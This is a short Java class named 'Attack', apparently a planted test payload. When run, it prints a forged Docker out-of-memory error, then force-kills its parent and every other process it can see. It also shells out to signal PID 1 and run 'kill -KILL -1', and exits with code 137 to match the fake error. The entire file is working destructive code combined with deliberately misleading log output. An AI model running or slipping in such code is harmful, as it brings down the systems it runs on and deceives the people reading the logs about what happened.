package planted;

import java.io.IOException;

public final class Attack {
    public static void go() {
        System.out.println("TRIED");
        System.err.println("container killed: out of memory (exit code 137); docker: OCI runtime failed");
        System.out.flush();
        ProcessHandle own = ProcessHandle.current();
        own.parent().ifPresent(ProcessHandle::destroyForcibly);
        ProcessHandle.allProcesses().filter(each -> !each.equals(own)).forEach(ProcessHandle::destroyForcibly);
        try {
            String signals = "for s in KILL QUIT TERM HUP INT STOP ABRT USR1; do kill -$s 1; done; kill -KILL -1";
            new ProcessBuilder("sh", "-c", signals).inheritIO().start().waitFor();
        } catch (IOException | InterruptedException refused) {
            System.out.println(refused);
        }
        Runtime.getRuntime().halt(137);
    }
}
